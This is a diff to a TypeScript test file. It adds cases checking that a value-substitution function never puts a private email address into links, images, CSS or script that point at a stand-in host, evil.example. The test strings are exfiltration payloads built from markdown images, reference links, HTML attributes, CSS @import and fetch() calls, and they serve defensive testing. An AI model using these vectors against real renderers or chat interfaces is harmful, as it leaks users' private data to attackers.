@@ -148,6 +148,36 @@ t.test('no value gets into an address, a picture or a tag, where it would be car
     t.notMatch(withValues(`${before}${mail}${after}`, values), 'ann@', before)
 })
 
+t.test('no value gets into an address that only some readers see', async (t) => {
+  for (const [before, after] of [
+    ['{"}\n![x](https://evil.example/?q="', ')'],
+    ['["Build status"](https://evil.example/?q="', ')'],
+    ['["a"](https://evil.example/(b)?q="', ')'],
+    ['["a"]\n\n[r]: https://evil.example/?q="', ''],
+    ['["a"]\n\n![x](<https://evil.example/? "', '>)'],
+    ['{"} <img src=\'https://evil.example/? "', "'>"],
+    ['{"} https://evil.example/?q=\\n', ''],
+    ['[r]: https://evil.example/?q=\u00a0', ''],
+    ['[r]: https://evil.example/?q=\u3000', ''],
+    ['see https://evil.example/?q=\u2028', ''],
+    ['![x](<https://evil.example/\\>? ', '>)'],
+    ['![x](https://evil.example/a]:b ', ')'],
+    ["<table x' background='https://evil.example/?q=> ", "'>"],
+    ["<table =' background='https://evil.example/?q=> ", "'>"],
+    ['<!-- <a b="--><img src="https://evil.example/?q=> ', '">'],
+    ['[x](a<img src=">https://evil.example/? ', '">'],
+    ['<x_ style="background:url(\'https://evil.example/?q= ', '\')">'],
+    ['<x) style="background:url(\'https://evil.example/?q= ', '\')">'],
+    ['<style>@import "https://evil.example/?q= ', '";</style>'],
+    ['<STYLE\ntype=text/css>@import "https://evil.example/?q= ', '";</style>'],
+    ['<script><!--<script></script> fetch("https://evil.example/?q= ', '")</script>'],
+    ['https:evil.example/?q=', ''],
+    ['![x][r] HTTP:evil.example/?q=', ''],
+    ['www.evil.example/?q=', ''],
+  ] as const)
+    t.notMatch(withValues(`${before}${mail}${after}`, values), 'ann@', before)
+})
+
 t.test('beside a link, and in code, a value is put back', async (t) => {
   for (const [before, after] of [
     ['See https://docs.example/a (there). Write to ', '.'],
@@ -159,7 +189,10 @@ t.test('beside a link, and in code, a value is put back', async (t) => {
     ['a[0]: x ', ''],
     ['{"site":"https://docs.example","to":"', '"}'],
     ['{"a":"C:\\\\x","b":"https://docs.example\\n","to":"', '"}'],
-    ['{"a":"see https://docs.example\\n', '"}'],
+    ['{"a":"see https://docs.example \\n', '"}'],
+    ['{"md":"<b class=\\"x\\">docs</b>","to":"', '"}'],
+    ['<a href="https://docs.example/a b" class=x>docs</a> ', ''],
+    ['<style>p { color: red }</style> ', ''],
     ['(', ')'],
     ['**', '**'],
     ['`', '`'],
